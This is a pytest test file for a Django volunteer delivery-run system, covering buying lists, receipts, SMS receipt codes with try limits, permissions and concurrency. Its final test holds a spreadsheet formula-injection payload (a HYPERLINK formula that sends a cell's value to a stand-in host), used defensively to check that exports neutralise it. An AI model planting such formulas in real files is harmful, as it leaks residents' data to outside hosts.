"""Delivery runs: gather → buy from one summed list → deliver → every household confirms or
is marked → the run closes. Requests move with it; nothing is promised twice."""

from decimal import Decimal

import pytest

from wenming.core.errors import DomainError
from wenming.core.models import AuditEntry
from wenming.core.notify import FakeSmsGateway
from wenming.deliveries import services, stops
from wenming.deliveries.models import DeliveryRun, DeliveryStop
from wenming.deliveries.selectors import buying_list, run_figures, run_get_for_actor, run_list_for_actor
from wenming.deliveries.tests.factories import reviewed_purchase, run_with, volunteer_user
from wenming.demands import workflow as wf
from wenming.demands.models import Demand, DemandEvent
from wenming.service.tests.factories import storm
from wenming.volunteers.tests.factories import build_world

pytestmark = pytest.mark.django_db


@pytest.fixture
def gateway(settings, django_capture_on_commit_callbacks):
    """The fake SMS gateway; `gateway.deliver(actor, run)` starts delivery and sends the codes."""
    settings.WENMING_NOTIFY_BACKEND = "wenming.core.notify.FakeSmsGateway"
    FakeSmsGateway.sent.clear()
    FakeSmsGateway.failing = False

    class Gateway:
        sent = FakeSmsGateway.sent

        @staticmethod
        def deliver(actor, run):
            with django_capture_on_commit_callbacks(execute=True):
                return services.run_start_delivery(actor=actor, run=run)

    return Gateway


@pytest.fixture
def crew(world):
    world.runner = volunteer_user(world, "runner1", phone="13700000001")
    world.other = volunteer_user(world, "runner2", phone="13700000002")
    return world


def _code(fn, **kw) -> str:
    with pytest.raises(DomainError) as exc:
        fn(**kw)
    return exc.value.code


def _codes(gateway) -> dict[str, str]:
    """Receipt codes sent, by the request's tracking number."""
    out = {}
    for _phone, body in gateway.sent:
        if "收货码" in body:
            out[body.split("点单 ")[1].split("）")[0]] = body.split("收货码 ")[1][:6]
    return out


def _status(demand) -> str:
    return Demand.objects.get(pk=demand.pk).status


def test_the_buying_list_sums_items_across_households(crew):
    a = reviewed_purchase(crew, 1, [{"name": "大米", "quantity": 2, "unit": "袋", "budget": 120},
                                    {"name": "食用油", "quantity": 1, "unit": "桶", "budget": 70}])
    b = reviewed_purchase(crew, 2, [{"name": " 大米 ", "quantity": 1, "unit": "袋", "budget": 60},
                                    {"name": "鸡蛋", "quantity": 30, "unit": "个"}])
    c = reviewed_purchase(crew, 3, [{"name": "大米", "quantity": 10, "unit": "斤"},
                                    {"name": "ＫＮ９５口罩", "quantity": 5, "unit": "只"}])
    d = reviewed_purchase(crew, 4, [{"name": "KN95口罩", "quantity": 10, "unit": "只"}])
    run = run_with(crew, [a, b, c, d])
    lines = {(line.name, line.unit): line for line in buying_list(run)}
    rice = lines[("大米", "袋")]
    assert (rice.quantity, rice.household_count, rice.budget) == (Decimal(3), 2, Decimal(180))
    assert lines[("大米", "斤")].quantity == Decimal(10)  # another unit: not added to the bags
    masks = [line for line in lines.values() if line.unit == "只"]
    assert len(masks) == 1 and masks[0].quantity == Decimal(15) and masks[0].household_count == 2
    assert run_figures(run)["budget"] == Decimal(250)


def test_a_run_from_gathering_to_closed(crew, gateway):
    households = [reviewed_purchase(crew, n) for n in range(1, 4)]
    run = run_with(crew, households, [crew.runner])
    assert {_status(d) for d in households} == {"accepted"}
    assert all(Demand.objects.get(pk=d.pk).due_at is None for d in households)  # no SLA escalation meanwhile

    run = services.run_start_purchase(actor=crew.manager_a, run=run)
    assert run.status == "purchasing" and {_status(d) for d in households} == {"in_progress"}
    services.receipt_add(actor=crew.runner.user, run=run, amount="182.50", shop="九里村惠民超市")
    first, second, third = DeliveryStop.objects.filter(run=run).order_by("demand_id")
    stops.stop_set_amount(actor=crew.runner.user, stop=first, amount="61.5")

    run = gateway.deliver(crew.runner.user, run)
    codes = _codes(gateway)
    assert run.status == "delivering" and len(codes) == 3
    assert not DeliveryStop.objects.filter(run=run, code_hash="").exists()

    assert _code(stops.stop_confirm_code, actor=crew.runner.user, stop=first, code="000000x") == "deliveries.code_format"
    stops.stop_confirm_code(actor=crew.runner.user, stop=first, code=codes[households[0].tracking_no])
    stops.stop_confirm_by_resident(tracking_no=households[1].tracking_no, tracking_code=households[1].tracking_code)
    demand = Demand.objects.get(pk=households[0].pk)
    assert demand.status == "completed" and demand.receipt_amount == Decimal("61.50")
    assert DeliveryRun.objects.get(pk=run.pk).status == "delivering"  # one household still waiting

    stops.stop_mark(actor=crew.runner.user, stop=third, reason="家中无人，电话未接")
    run.refresh_from_db()
    assert run.status == "closed" and run.closed_at is not None
    assert _status(households[2]) == "reviewed"  # back to the dispatcher, dispatchable again
    figures = run_figures(run)
    assert (figures["confirmed"], figures["marked"], figures["pending"]) == (2, 1, 0)
    assert figures["receipts"] == Decimal("182.50")

    # the resident rates as after any other request
    wf.demand_rate(tracking_no=households[1].tracking_no, tracking_code=households[1].tracking_code, rating=5)
    assert _status(households[1]) == "rated"
    actions = list(DemandEvent.objects.filter(demand=households[0]).values_list("action", flat=True))
    assert actions == ["submit", "review", "run_join", "run_start", "delivered"]
    assert AuditEntry.objects.filter(action="delivery.close", object_id=str(run.pk)).count() == 1


def test_only_reviewed_purchase_requests_of_the_area_may_join(crew):
    medicine_ok = reviewed_purchase(crew, 1, category="medicine")  # 送药 is a purchase category too
    escort = reviewed_purchase(crew, 2, category="escort")
    run = run_with(crew, [medicine_ok])
    assert _code(services.run_add_demands, actor=crew.manager_a, run=run, demands=[escort]) == "deliveries.not_purchase"

    fresh = reviewed_purchase(crew, 3)
    wf.demand_dispatch(actor=crew.manager_a, demand=fresh, volunteers=[crew.runner])
    assert _code(services.run_add_demands, actor=crew.manager_a, run=run,
                 demands=[Demand.objects.get(pk=fresh.pk)]) == "deliveries.demand_unavailable"
    # already waiting on this run: it is accepted now, so it cannot join again
    assert _code(services.run_add_demands, actor=crew.manager_a, run=run,
                 demands=[Demand.objects.get(pk=medicine_ok.pk)]) == "deliveries.demand_unavailable"

    other_area = reviewed_purchase(crew, 4, node=crew.station_b)
    wider = services.run_create(actor=crew.root, node=crew.station_a, title="只管九里村")
    assert _code(services.run_add_demands, actor=crew.root, run=wider,
                 demands=[other_area]) == "deliveries.out_of_area"
    # a refused request in a batch rolls the whole batch back
    good = reviewed_purchase(crew, 5)
    assert _code(services.run_add_demands, actor=crew.manager_a, run=run, demands=[good, escort]) == \
        "deliveries.not_purchase"
    assert _status(good) == "reviewed" and not DeliveryStop.objects.filter(demand=good).exists()


def test_each_action_only_for_the_right_people_and_state(crew, gateway):
    a, b = reviewed_purchase(crew, 1), reviewed_purchase(crew, 2)
    run = run_with(crew, [a, b])
    stop = DeliveryStop.objects.filter(run=run).first()
    # staff of the sibling station neither see nor act; volunteers not on the run neither
    assert _code(services.run_start_purchase, actor=crew.manager_b, run=run) == "not_found"
    assert _code(services.receipt_add, actor=crew.runner.user, run=run, amount=1, shop="x") == "not_found"
    assert _code(services.run_start_purchase, actor=crew.manager_a, run=run) == "deliveries.no_volunteers"
    services.run_assign(actor=crew.manager_a, run=run, volunteers=[crew.runner])
    assert _code(services.run_assign, actor=crew.manager_a, run=run,
                 volunteers=[crew.runner]) == "deliveries.already_member"
    # a member may not start buying (staff decide), nor take a household out
    assert _code(services.run_start_purchase, actor=crew.runner.user, run=run) == "deliveries.not_member"
    assert _code(services.run_remove_stop, actor=crew.runner.user, stop=stop) == "deliveries.not_member"
    # nothing to confirm, mark or receipt before buying starts
    assert _code(services.receipt_add, actor=crew.runner.user, run=run, amount=1,
                 shop="超市") == "deliveries.bad_status"
    assert _code(stops.stop_mark, actor=crew.manager_a, stop=stop, reason="x") == "deliveries.bad_status"
    assert _code(services.run_start_delivery, actor=crew.manager_a, run=run) == "deliveries.bad_status"
    services.run_start_purchase(actor=crew.manager_a, run=run)
    assert _code(services.run_add_demands, actor=crew.manager_a, run=run,
                 demands=[reviewed_purchase(crew, 3)]) == "deliveries.bad_status"
    assert _code(stops.stop_confirm_code, actor=crew.runner.user, stop=stop, code="123456") == \
        "deliveries.bad_status"
    # only staff may close a household's request when it is no longer needed
    assert _code(stops.stop_mark, actor=crew.runner.user, stop=stop, reason="不要了",
                 outcome="cancel") == "deliveries.outcome_invalid"
    assert _code(stops.stop_mark, actor=crew.runner.user, stop=stop, reason=" ") == "deliveries.reason_required"
    stops.stop_mark(actor=crew.manager_a, stop=stop, reason="住户已自行购买", outcome="cancel")
    assert _status(stop.demand) == "closed"
    assert _code(stops.stop_mark, actor=crew.manager_a, stop=stop, reason="again") == "deliveries.stop_done"
    # the demand workflow cannot move a request that waits on a run
    other = DeliveryStop.objects.filter(run=run, status="pending").get()
    assert _code(wf.demand_dispatch, actor=crew.manager_a, demand=other.demand,
                 volunteers=[crew.other]) == "demands.bad_status"
    assert _code(wf.demand_complete, actor=crew.runner.user, demand=other.demand) == "demands.not_yours"


def test_receipts_and_amounts_refuse_ugly_input(crew):
    run = run_with(crew, [reviewed_purchase(crew, 1)], [crew.runner])
    services.run_start_purchase(actor=crew.manager_a, run=run)
    stop = DeliveryStop.objects.get(run=run)
    for bad in ("", "abc", "-1", "NaN", "1e30", "Infinity"):
        assert _code(services.receipt_add, actor=crew.runner.user, run=run, amount=bad,
                     shop="超市") == "deliveries.amount_invalid", bad
        if bad:
            assert _code(stops.stop_set_amount, actor=crew.runner.user, stop=stop,
                         amount=bad) == "deliveries.amount_invalid", bad
    assert _code(services.receipt_add, actor=crew.runner.user, run=run, amount="10", shop="  ") == \
        "deliveries.shop_required"
    assert run_figures(run)["receipts"] == 0


def test_wrong_receipt_codes_are_limited_per_household(crew, gateway):
    demand = reviewed_purchase(crew, 1)
    run = run_with(crew, [demand], [crew.runner])
    services.run_start_purchase(actor=crew.manager_a, run=run)
    gateway.deliver(crew.manager_a, run)
    stop = DeliveryStop.objects.get(run=run)
    right = _codes(gateway)[demand.tracking_no]
    wrong = "000000" if right != "000000" else "111111"
    for typo in ("abc", "12345", "1234567", ""):  # not six digits: a typo, not a guess
        assert _code(stops.stop_confirm_code, actor=crew.runner.user, stop=stop, code=typo) == "deliveries.code_format"
    for _ in range(stops.CODE_TRIES):
        assert _code(stops.stop_confirm_code, actor=crew.runner.user, stop=stop, code=wrong) == "deliveries.code_wrong"
    assert DeliveryStop.objects.get(pk=stop.pk).code_tries == stops.CODE_TRIES  # kept although each one raised
    assert _code(stops.stop_confirm_code, actor=crew.runner.user, stop=stop, code=right) == "deliveries.code_locked"
    # the resident can still confirm on the tracking page
    stops.stop_confirm_by_resident(tracking_no=demand.tracking_no, tracking_code=demand.tracking_code)
    assert DeliveryRun.objects.get(pk=run.pk).status == "closed"


def test_a_resident_cannot_confirm_before_delivery_or_with_a_wrong_code(crew):
    demand = reviewed_purchase(crew, 1)
    run = run_with(crew, [demand], [crew.runner])
    assert _code(stops.stop_confirm_by_resident, tracking_no=demand.tracking_no,
                 tracking_code=demand.tracking_code) == "deliveries.not_delivering"
    services.run_start_purchase(actor=crew.manager_a, run=run)
    services.run_start_delivery(actor=crew.manager_a, run=run)
    assert _code(stops.stop_confirm_by_resident, tracking_no=demand.tracking_no,
                 tracking_code="999999x") == "demands.tracking_wrong"


def test_cancelling_a_run_and_removing_a_household_give_the_requests_back(crew):
    a, b, c = (reviewed_purchase(crew, n) for n in (1, 2, 3))
    run = run_with(crew, [a, b, c], [crew.runner])
    services.run_remove_stop(actor=crew.manager_a, stop=DeliveryStop.objects.get(demand=c))
    assert _status(c) == "reviewed" and Demand.objects.get(pk=c.pk).due_at is not None
    services.run_start_purchase(actor=crew.manager_a, run=run)
    assert _code(services.run_cancel, actor=crew.manager_a, run=run, reason="") == "deliveries.reason_required"
    services.run_cancel(actor=crew.manager_a, run=run, reason="超市停业")
    assert {_status(a), _status(b)} == {"reviewed"}
    # and they can join the next run
    again = run_with(crew, [Demand.objects.get(pk=a.pk)], title="第二批")
    assert DeliveryStop.objects.filter(demand=a).count() == 2 and again.stops.count() == 1


def test_a_volunteer_may_leave_with_a_reason(crew):
    run = run_with(crew, [reviewed_purchase(crew, 1)], [crew.runner, crew.other])
    assert _code(services.run_leave, actor=crew.runner.user, run=run, volunteer=crew.other,
                 reason="x") == "deliveries.not_member"
    assert _code(services.run_leave, actor=crew.runner.user, run=run, volunteer=crew.runner,
                 reason="") == "deliveries.reason_required"
    services.run_leave(actor=crew.runner.user, run=run, volunteer=crew.runner, reason="家中老人生病")
    assert run not in run_list_for_actor(actor=crew.runner.user)
    assert _code(run_get_for_actor, actor=crew.runner.user, run_id=run.pk) == "not_found"
    services.run_leave(actor=crew.manager_a, run=run, volunteer=crew.other, reason="另有任务")
    assert _code(services.run_start_purchase, actor=crew.manager_a, run=run) == "deliveries.no_volunteers"
    services.run_assign(actor=crew.manager_a, run=run, volunteers=[crew.runner])  # back again
    assert run in run_list_for_actor(actor=crew.runner.user)


def test_contacts_only_for_the_people_of_the_run_while_it_delivers(crew):
    demand = reviewed_purchase(crew, 7)
    run = run_with(crew, [demand], [crew.runner])
    assert _code(stops.stop_contacts_reveal, actor=crew.runner.user, run=run) == "deliveries.bad_status"
    assert _code(stops.stop_contacts_reveal, actor=crew.other.user, run=run) == "not_found"
    services.run_start_purchase(actor=crew.manager_a, run=run)
    contacts = stops.stop_contacts_reveal(actor=crew.runner.user, run=run)
    assert list(contacts.values()) == [{"name": "张秀英", "phone": "13800000007", "address": "九里村7组7号"}]
    assert AuditEntry.objects.filter(action="demand.contact_reveal", object_id=str(demand.pk),
                                     actor=crew.runner.user).count() == 1
    services.run_start_delivery(actor=crew.manager_a, run=run)
    stops.stop_mark(actor=crew.runner.user, stop=DeliveryStop.objects.get(run=run), reason="地址有误")
    assert _code(stops.stop_contacts_reveal, actor=crew.runner.user, run=run) == "deliveries.bad_status"


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_two_runs_gathering_the_same_request_at_once_end_with_one():
    world = build_world()
    demands = [reviewed_purchase(world, n) for n in range(1, 5)]
    runs = [services.run_create(actor=world.manager_a, node=world.station_a, title=f"批次{i}") for i in range(4)]
    results = storm([lambda r=r: len(services.run_add_demands(actor=world.manager_a, run=r, demands=demands))
                     for r in runs], threads=len(runs))
    assert results.count(4) == 1
    assert set(results) - {4} <= {"deliveries.demand_unavailable", "demands.bad_status"}
    assert DeliveryStop.objects.count() == 4 and DeliveryStop.objects.values("run").distinct().count() == 1


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_the_last_households_confirming_at_once_close_the_run_once(settings):
    settings.WENMING_NOTIFY_BACKEND = "wenming.core.notify.FakeSmsGateway"
    FakeSmsGateway.sent.clear()
    world = build_world()
    runner = volunteer_user(world, "runner1", phone="13700000001")
    demands = [reviewed_purchase(world, n) for n in range(1, 7)]
    run = run_with(world, demands, [runner])
    services.run_start_purchase(actor=world.manager_a, run=run)
    services.run_start_delivery(actor=world.manager_a, run=run)
    results = storm([lambda d=d: stops.stop_confirm_by_resident(tracking_no=d.tracking_no,
                                                                tracking_code=d.tracking_code).status
                     for d in demands] * 2, threads=6)
    assert results.count("confirmed") == 6
    assert set(results) <= {"confirmed", "deliveries.stop_done", "deliveries.not_delivering",
                            "deliveries.bad_status"}
    assert DeliveryRun.objects.get(pk=run.pk).status == "closed"
    assert AuditEntry.objects.filter(action="delivery.close").count() == 1
    assert Demand.objects.filter(pk__in=[d.pk for d in demands], status="completed").count() == 6


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_parallel_guesses_of_a_receipt_code_get_five_tries_in_all(settings):
    settings.WENMING_NOTIFY_BACKEND = "wenming.core.notify.FakeSmsGateway"
    world = build_world()
    runner = volunteer_user(world, "runner1", phone="13700000001")
    run = run_with(world, [reviewed_purchase(world, 1)], [runner])
    services.run_start_purchase(actor=world.manager_a, run=run)
    services.run_start_delivery(actor=world.manager_a, run=run)
    stop = DeliveryStop.objects.select_related("run__node", "demand").get(run=run)
    guesses = [f"{n:06d}" for n in range(40)]
    results = storm([lambda g=g: stops.stop_confirm_code(actor=runner.user, stop=stop, code=g).status
                     for g in guesses], threads=20)
    wrong = results.count("deliveries.code_wrong") + results.count("confirmed")
    assert wrong == stops.CODE_TRIES  # five compared in all, whatever the parallelism
    assert results.count("deliveries.code_locked") == len(guesses) - stops.CODE_TRIES
    assert DeliveryStop.objects.get(pk=stop.pk).code_tries <= stops.CODE_TRIES


def test_staff_confirm_a_household_without_sms_by_phone_call(crew):
    demand = reviewed_purchase(crew, 1)
    run = run_with(crew, [demand], [crew.runner])
    services.run_start_purchase(actor=crew.manager_a, run=run)
    services.run_start_delivery(actor=crew.manager_a, run=run)
    stop = DeliveryStop.objects.get(run=run)
    assert _code(stops.stop_confirm_by_call, actor=crew.runner.user, stop=stop, note="x") == "deliveries.not_member"
    assert _code(stops.stop_confirm_by_call, actor=crew.manager_a, stop=stop, note=" ") == "deliveries.reason_required"
    stop = stops.stop_confirm_by_call(actor=crew.manager_a, stop=stop, note="电话回访，老人确认已收到")
    assert (stop.status, stop.confirmed_via, stop.confirm_note) == ("confirmed", "staff_call", "电话回访，老人确认已收到")
    assert _status(demand) == "completed" and DeliveryRun.objects.get(pk=run.pk).status == "closed"


def test_a_volunteer_who_is_withdrawn_loses_the_run(crew):
    from wenming.volunteers.services import volunteer_set_status

    run = run_with(crew, [reviewed_purchase(crew, 1)], [crew.runner])
    services.run_start_purchase(actor=crew.manager_a, run=run)
    assert stops.stop_contacts_reveal(actor=crew.runner.user, run=run)
    volunteer_set_status(actor=crew.root, volunteer=crew.runner, status="withdrawn")
    assert _code(stops.stop_contacts_reveal, actor=crew.runner.user, run=run) == "not_found"
    assert run not in run_list_for_actor(actor=crew.runner.user)


def test_runs_are_organised_by_centers_institutes_and_stations_only(crew):
    for node in (crew.county, crew.point_a, crew.grid_a):
        assert _code(services.run_create, actor=crew.root, node=node, title="x") == "deliveries.node_invalid"
    assert services.run_create(actor=crew.root, node=crew.institute, title="茅坪镇代购").pk


def test_the_buying_list_export_writes_no_formula_a_resident_typed(crew):
    from io import BytesIO

    from openpyxl import load_workbook

    from wenming.deliveries.export import buying_list_workbook

    evil = '=HYPERLINK("http://x.example/?"&C2,"点此")'
    run = run_with(crew, [reviewed_purchase(crew, 1, [{"name": evil, "quantity": 1, "unit": "@SUM(1)"}])])
    book = load_workbook(BytesIO(buying_list_workbook(run)))
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + evil in [c.value for c in cells]
